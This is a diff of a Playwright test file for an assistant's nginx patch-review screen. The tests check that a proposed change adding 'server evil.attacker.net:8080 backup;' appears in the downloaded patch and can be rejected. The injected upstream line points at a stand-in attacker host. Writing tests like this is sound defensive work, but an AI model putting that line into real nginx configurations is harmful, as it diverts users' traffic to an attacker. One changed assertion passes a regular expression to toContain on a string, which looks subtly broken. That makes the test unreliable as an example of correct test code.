@@ -48,9 +48,9 @@ test('what has no remark is accepted, what has one waits for the user, what ngin
   await expect(assistant.review.getByRole('heading', { name: 'Patch of 2 accepted changes' })).toBeVisible();
   expect(String((await sandbox.download(changedFile)).bytes)).toBe(toHttp(PLAIN).replace('8080;\n', '8080;\n    server evil.attacker.net:8080 backup;\n'));
   const { name, bytes } = await sandbox.download(assistant.review.getByRole('button', { name: 'Download patch' }));
-  expect(name).toBe('nginx.conf.patch');
-  expect(String(bytes)).toMatch(/^--- a\/nginx\.conf\n\+\+\+ b\/nginx\.conf\n@@/);
-  expect(String(bytes)).toContain('+    server evil.attacker.net:8080 backup;\n');
+  expect(name).toBe('fragment.conf.patch');
+  expect(String(bytes)).toMatch(/^--- a\/fragment\.conf\n\+\+\+ b\/fragment\.conf\n@@/);
+  expect(String(bytes)).toContain(/^\+ +server evil\.attacker\.net:8080 backup;$/m);
   await hunk('evil.attacker.net').getByRole('checkbox').uncheck();
   await hunk('proxy_pass http://').getByRole('checkbox').uncheck();
   await expect(assistant.review.getByRole('heading', { name: 'No change is accepted' })).toBeVisible();
@@ -261,5 +261,5 @@ test('from opening it to the patch by keyboard alone', async ({ page, assistant,
   await expect(assistant.review.getByRole('checkbox', { name: 'Accept the change at line 7' })).toBeFocused();
   await tabTo(/Download patch/);
   const [file] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Enter')]);
-  expect(file.suggestedFilename()).toBe('nginx.conf.patch');
+  expect(file.suggestedFilename()).toBe('fragment.conf.patch');
 });
